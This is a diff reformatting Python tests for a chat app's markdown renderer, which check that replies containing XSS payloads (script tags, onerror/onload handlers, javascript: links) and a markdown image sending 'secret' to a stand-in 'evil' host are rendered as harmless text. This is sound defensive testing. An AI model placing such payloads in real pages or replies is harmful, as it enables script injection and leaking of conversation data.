@@ -11,22 +11,27 @@ from app.web.chat.store import TITLE_MAX, title_from
 from app.web.chat.stream import sse
 
 
-@pytest.mark.parametrize("source", [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    "[click](javascript:alert(1))",
-    '<div onclick="alert(1)">x</div>',
-    "<iframe src=//evil></iframe>",
-    '<svg onload="alert(1)"></svg>',
-])
+@pytest.mark.parametrize(
+    "source",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        '<a href="javascript:alert(1)">x</a>',
+        "[click](javascript:alert(1))",
+        '<div onclick="alert(1)">x</div>',
+        "<iframe src=//evil></iframe>",
+        '<svg onload="alert(1)"></svg>',
+    ],
+)
 def test_markup_in_a_reply_is_shown_as_text_never_as_html(source):
     html = str(render_markdown(source))
     tags = _tags(html)
     assert {name for name, _ in tags} <= {"p", "a"}
     for _, attrs in tags:
         assert not any(key.startswith("on") for key, _ in attrs)
-        assert not any((value or "").strip().lower().startswith("javascript:") for _, value in attrs)
+        assert not any(
+            (value or "").strip().lower().startswith("javascript:") for _, value in attrs
+        )
     assert "&lt;" in html or "click" in html  # the markup is kept as visible text
 
 
@@ -42,7 +47,11 @@ def _tags(html: str) -> list[tuple[str, list]]:
 
 
 def test_markdown_renders_and_links_are_safe():
-    html = str(render_markdown("**bold** `code`\n\n- a\n- b\n\n[site](https://example.com)\n\n![x](https://evil/leak?q=secret)"))
+    html = str(
+        render_markdown(
+            "**bold** `code`\n\n- a\n- b\n\n[site](https://example.com)\n\n![x](https://evil/leak?q=secret)"
+        )
+    )
     assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>a</li>" in html
     assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
     assert "<img" not in html  # images could leak the conversation through their URL
@@ -52,7 +61,9 @@ def test_table_alignment_is_a_class_not_a_style_the_pages_policy_would_block():
     html = str(render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"))
     assert '<th class="align-left">a</th>' in html and '<td class="align-right">3</td>' in html
     assert "style=" not in html
-    assert "<td class" not in str(render_markdown('| a |\n|---|\n| <td class="x" style="color:red"> |'))
+    assert "<td class" not in str(
+        render_markdown('| a |\n|---|\n| <td class="x" style="color:red"> |')
+    )
 
 
 def test_sse_events_split_multiline_data_into_data_lines():
